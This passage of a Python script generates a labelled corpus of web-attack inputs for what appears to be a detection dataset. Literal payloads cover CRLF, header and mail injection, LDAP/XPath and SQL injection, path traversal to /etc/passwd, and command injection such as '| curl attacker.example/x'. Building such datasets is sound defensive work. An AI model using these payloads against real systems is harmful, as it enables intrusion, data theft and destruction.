log-forging|||nitrox<<CR>><<LF>>[ERROR] admin password reset for kn-123456 -> Fake-Reset-1
log-forging|||tank #17%E5%98%8A%E5%98%8Dlevel=INFO msg="backup disabled by admin"
log-forging|||seasick<<CR>>2024-06-14 09:00 boat=MantaQueen status=departed_ok divers=0
log-forging|||Aoife%250d%250a127.0.0.1 - - [14/Jun/2024] "GET /admin HTTP/1.1" 200
header-injection|||en-GB<<CRLF>>Set-Cookie: session=attacker-fixed-123; Path=/; HttpOnly
header-injection|||/book?ref=DS-2291%0d%0aLocation:%20https://attacker.example/phish
header-injection|||thanks%0D%0AX-Forwarded-For:%20127.0.0.1
header-injection|||de%0d%0aContent-Security-Policy:%20script-src%20*
header-injection|||utf-8%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true
header-injection|||%E5%98%8D%E5%98%8ASet-Cookie:%20role=instructor
header-injection|||/logbook%0aRefresh:%200;url=https://attacker.example/
response-splitting|||DS-2024-0113%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
response-splitting|||fr<<CRLF>>Content-Type: text/html<<CRLF>><<CRLF>><html><body>Your booking is cancelled, re-pay at https://attacker.example</body></html>
response-splitting|||x%0d%0a%0d%0a<svg onload=alert(document.domain)>
response-splitting|||%0d%0aTransfer-Encoding:%20chunked%0d%0a%0d%0a0%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20localhost
mail-header|||aoife@example.org<<LF>>Bcc: everyone@attacker.example
mail-header|||Booking question%0ACc:%20list@attacker.example%0ABcc:%20dump@attacker.example
mail-header|||diver@example.org%0d%0aSubject:%20Your%20certificate%20has%20expired%0d%0a%0d%0aPay%20at%20https://attacker.example
mail-header|||Tom<<CRLF>>Reply-To: billing@attacker.example<<CRLF>>X-Priority: 1
mail-header|||student@example.org<<LF>>Content-Type: text/html<<LF>><<LF>><a href=https://attacker.example>renew cert</a>
mail-header|||Pool night reminder<<LF>>To: all-students@divingschool.example<<LF>>From: owner@divingschool.example
csv-row|||Great course!"<<LF>>DS-2024-9999,Fake,Diver,Instructor,2024-01-01,KN-123456
csv-row|||O'Neill<<CRLF>>=HYPERLINK("https://attacker.example/x","Download certificate"),,,
csv-row|||Kim","Open Water"<<LF>>"DS-2024-9998","Eve","Attacker","Divemaster","2020-01-01","KN-123456
csv-row|||note<<LF>>DS-2024-0113,Hannah,O'Neill,REVOKED,2024-06-14,KN-123456
smtp|||hello<<CRLF>>.<<CRLF>>MAIL FROM:<x@attacker.example><<CRLF>>RCPT TO:<all@divingschool.example><<CRLF>>DATA
''')

LIT["ldap-xpath"] = block(r'''
ldap|||*)(uid=*))(|(uid=*
ldap|||kn-123456)(|(objectClass=*)
ldap|||admin*)((|userPassword=*)
ldap|||*)(&(memberOf=cn=instructors,ou=groups,dc=divingschool,dc=example)
ldap|||Siobhan)(|(cn=*)(mail=*)
ldap|||x)(description=*)%00
ldap|||*))%00
ldap|||\2a)(uid=\2a
ldap|||aoife)(!(userPassword=x)
ldap|||*)(|(telephoneNumber=*)(employeeNumber=*))
xpath|||' or '1'='1
xpath|||DS-2024-0113' or count(//student)>0 or 'a'='b
xpath|||x' or name()='password' or 'x'='y
xpath|||'] | //instructor/password | //x['
xpath|||' or substring(//user[1]/password,1,1)='a' and ''='
xpath|||Tanaka' and string-length(//admin/pass)=8 and '1'='1
xpath|||1 or 1=1]/parent::*/child::node()
xpath|||')] | //* | /*[('
xpath|||' or doc('http://attacker.example/x.xml') or '
xpath|||*[contains(.,'Nitrox')] | //medical/*
''')

# Small joined pools (at most 10% of the corpus).
CMDI_PREFIXES = ["dive_0412.fit", "certs_export.csv", "reg_service_ticket.pdf", "turtle.jpg"]
CMDI_PAYLOADS = ["; id", "&& cat /etc/passwd", "| curl attacker.example/x", "$(whoami)", "`uname -a`"]

URLENC = {
    "sqli": [("tautology", "DS-2024-0119' OR '1'='1'--"), ("union", "' UNION SELECT email,password FROM students--"),
             ("blind-time", "1 AND SLEEP(5)"), ("stacked", "'; DROP TABLE dive_logs;--"),
             ("union", "wreck' AND 1=2 UNION SELECT 1,2,3-- -"), ("tautology", "x' OR 1=1 LIMIT 1#"),
             ("blind-time", "1; SELECT pg_sleep(7)--"), ("tautology", "' or '' = '")],
    "traversal": [("dotdot", "../../../../etc/passwd"), ("dotdot", "..\\..\\..\\windows\\win.ini"),
                  ("dotdot", "../../../app/config/secrets.yml"), ("dotdot", "../../../../proc/self/environ"),
                  ("dotdot", "certs/../../../../home/shop/.bash_history")],
}

SIZES = {"sqli": 79, "xss": 80, "cmdi": 72, "traversal": 50, "ssrf": 50, "code": 88,
         "nosqli": 27, "crlf": 30, "ldap-xpath": 20}
ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    rng = random.Random(SEED)
    benign = set()
    bpath = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    rows = []
    seen = set()
    n_lit = 0
    for cat in ORDER:
        items = []
        for cls, v in LIT[cat]:
            if v in seen or v in benign:
                raise SystemExit("duplicate/benign literal: %r" % v)
            seen.add(v)
            items.append((cls, v))
        n_lit += len(items)
        if cat in URLENC:
            for cls, p in URLENC[cat]:
                v = pct_all(p)
                if v in seen:
                    raise SystemExit("dup " + v)
                seen.add(v)
                items.append((cls + "+urlencode", v))
        if cat == "cmdi":
            prefixes = list(CMDI_PREFIXES)
            payloads = list(CMDI_PAYLOADS)
            rng.shuffle(prefixes)
            rng.shuffle(payloads)
            combos = [(prefixes[i % len(prefixes)], payloads[i % len(payloads)]) for i in range(20)]
            for a, b in combos:
                if len(items) >= SIZES[cat]:
                    break
                v = a + " " + b if not b.startswith(("$", "`")) else a.replace(".", "_" + b + ".", 1)
                if v in seen or v in benign:
                    continue
                seen.add(v)
                items.append(("separator-joined", v))
        if len(items) != SIZES[cat]:
            raise SystemExit("%s: %d values, want %d" % (cat, len(items), SIZES[cat]))
        for cls, v in items:
            assert 1 <= len(v) <= 2000, v
            rows.append((cat, cls, v))
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "hakg-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
